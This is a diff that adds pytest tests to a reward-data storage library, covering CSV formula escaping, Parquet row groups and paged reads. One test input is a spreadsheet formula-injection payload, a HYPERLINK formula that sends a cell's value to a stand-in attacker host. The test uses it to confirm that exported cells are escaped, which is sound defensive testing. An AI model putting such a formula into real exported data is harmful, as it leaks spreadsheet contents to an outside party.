@@ -105,3 +105,63 @@ def test_preference_pairs_use_candidate_texts():
     fb = Feedback(decision_id="r1", kind="preference", preferred="c1", rejected="c2")
     (pair,) = preference_rows(DecisionBatch([d], {"r1": [fb]}))
     assert (pair["chosen"], pair["rejected"]) == ("write-ahead logging", "a kind of wall")
+
+
+# ------------------------------------------------------------------- issue 13, items 4 and 10
+
+
+def test_csv_cells_that_start_like_a_formula_are_quoted_and_read_back_exactly(tmp_path):
+    from rewardloop.store.files import read_rows, write_rows
+
+    cells = {
+        "text": '=HYPERLINK("http://evil.example/?x="&A1, "click")',
+        "comment": "+1 agreed",
+        "label": "-sport",
+        "rater_id": "@ann",
+        "policy": "\tx",
+        "variant": "'=not a formula",
+        "experiment": "plain",
+    }
+    path = tmp_path / "x.csv"
+    write_rows([cells], path)
+    raw = path.read_text()
+    assert "'=HYPERLINK(" in raw and "'+1 agreed" in raw and "'-sport" in raw and "'@ann" in raw
+    assert "''=not a formula" in raw
+    assert "\n=" not in raw and ",=" not in raw
+    (back,) = list(read_rows(path))
+    assert back == cells
+
+
+def test_parquet_is_written_in_row_groups_and_reads_back(tmp_path, monkeypatch):
+    import pyarrow.parquet as pq
+
+    import rewardloop.store.files as files
+
+    monkeypatch.setattr(files, "PARQUET_GROUP_ROWS", 3)
+    rows = [
+        {"id": f"r{i}", "latency_ms": None if i < 4 else float(i), "actions": ["a", "b"]} for i in range(10)
+    ]
+    path = tmp_path / "x.parquet"
+    assert files.write_rows(rows, path) == 10
+    assert pq.ParquetFile(path).metadata.num_row_groups == 4
+    back = list(files.read_rows(path))
+    assert [r["id"] for r in back] == [r["id"] for r in rows]
+    assert [r.get("latency_ms") for r in back] == [None] * 4 + [float(i) for i in range(4, 10)]
+    assert back[0]["actions"] == ["a", "b"]
+
+
+def test_iter_decisions_pages_through_the_same_rows_in_the_same_order(store):
+    import dataclasses
+    from datetime import UTC, datetime
+
+    from rewardloop.store import read_decisions, write_decisions, write_feedback
+    from rewardloop.store.repository import iter_decisions
+
+    t = datetime(2026, 1, 1, tzinfo=UTC)  # equal times: the id breaks the tie
+    same_time = [dataclasses.replace(clf(i), created_at=t) for i in (6, 4, 5)]
+    write_decisions(store, [clf(i) for i in range(4)] + same_time)
+    write_feedback(store, [Feedback(decision_id="d5", kind="implicit", value=1)])
+    pages = list(iter_decisions(store, page_size=3, include_feedback=True))
+    assert [len(p) for p in pages] == [3, 3, 1]
+    assert [i for p in pages for i in p.ids] == read_decisions(store).ids
+    assert sum(len(p.feedback) for p in pages) == 1
